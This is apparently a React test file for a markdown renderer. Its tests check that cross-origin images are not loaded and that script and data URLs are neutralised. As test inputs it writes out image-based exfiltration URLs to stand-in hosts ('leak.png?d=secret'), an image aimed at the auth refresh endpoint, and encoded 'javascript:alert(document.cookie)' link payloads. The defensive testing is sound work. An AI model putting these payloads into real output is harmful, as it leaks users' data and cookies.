import { render, screen } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import { MarkdownContent } from './markdown-content';

const imagesIn = (container: HTMLElement) => [...container.querySelectorAll('img')].map((img) => img.src);

describe('MarkdownContent', () => {
  it('shows an image of another origin as a link to it, never loading it', () => {
    const { container } = render(
      <MarkdownContent content="Chart: ![Q3 chart](https://images.example/leak.png?d=secret)" />,
    );

    const link = screen.getByRole('link', { name: 'Q3 chart (images.example)' });
    expect(link.getAttribute('href')).toBe('https://images.example/leak.png?d=secret');
    expect(link.getAttribute('target')).toBe('_blank');
    expect(link.getAttribute('rel')).toBe('noopener noreferrer nofollow');
    expect(screen.queryByRole('img')).toBeNull();
    expect(imagesIn(container)).toEqual([]);
  });

  it("names an image without alt text 'image', and a protocol-relative one by its host", () => {
    const { container } = render(
      <MarkdownContent content={'![](http://127.0.0.1:9/leak?d=1)\n\n![x](//cdn.example/a.png)'} />,
    );

    expect(screen.getByRole('link', { name: 'image (127.0.0.1:9)' })).toBeTruthy();
    expect(screen.getByRole('link', { name: 'x (cdn.example)' }).getAttribute('href')).toBe(
      'http://cdn.example/a.png',
    );
    expect(imagesIn(container)).toEqual([]);
  });

  it('shows an image of our own origin', () => {
    render(<MarkdownContent content={'![Team photo](/assets/team.png)'} />);

    const image = screen.getByRole('img', { name: 'Team photo' });
    expect(image.getAttribute('src')).toBe(`${window.location.origin}/assets/team.png`);
    expect(screen.queryByRole('link')).toBeNull();
  });

  it('does not load our own API as an image (the request would carry the refresh cookie)', () => {
    const { container } = render(<MarkdownContent content={'![x](/api/auth/refresh)'} />);

    expect(imagesIn(container)).toEqual([]);
    expect(screen.getByRole('link', { name: `x (${window.location.host})` })).toBeTruthy();
  });

  it('keeps an image inside a link as the link text, so links do not nest', () => {
    const { container } = render(
      <MarkdownContent content={'[![Logo](https://cdn.example/logo.png)](https://example.com/about)'} />,
    );

    const links = screen.getAllByRole('link');
    expect(links).toHaveLength(1);
    expect(links[0]!.getAttribute('href')).toBe('https://example.com/about');
    expect(links[0]!.textContent).toBe('Logo (cdn.example)');
    expect(imagesIn(container)).toEqual([]);
  });

  it('neutralises javascript: and data: URLs in links and images', () => {
    const { container } = render(
      <MarkdownContent
        content={[
          '[Open me](javascript:alert(document.cookie))',
          '[Or me](<JaVaScRiPt:alert(1)>)',
          '[Entity](&#x6A;avascript:alert(1))',
          '![pic](javascript:alert(1))',
          '![svg](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)',
        ].join('\n\n')}
      />,
    );

    expect(screen.queryAllByRole('link')).toEqual([]);
    expect(imagesIn(container)).toEqual([]);
    expect(container.querySelector('[href]')).toBeNull();
    for (const text of ['Open me', 'Or me', 'Entity', 'pic', 'svg'])
      expect(screen.getByText(text)).toBeTruthy();
  });

  it('opens ordinary links in a new tab with no referrer', () => {
    render(
      <MarkdownContent
        content={'[Docs](https://example.com/docs) and [Email Ann](mailto:ann@example.com)'}
      />,
    );

    const docs = screen.getByRole('link', { name: 'Docs' });
    expect(docs.getAttribute('href')).toBe('https://example.com/docs');
    expect(docs.getAttribute('target')).toBe('_blank');
    expect(docs.getAttribute('rel')).toBe('noopener noreferrer nofollow');
    expect(screen.getByRole('link', { name: 'Email Ann' }).getAttribute('href')).toBe(
      'mailto:ann@example.com',
    );
  });
});
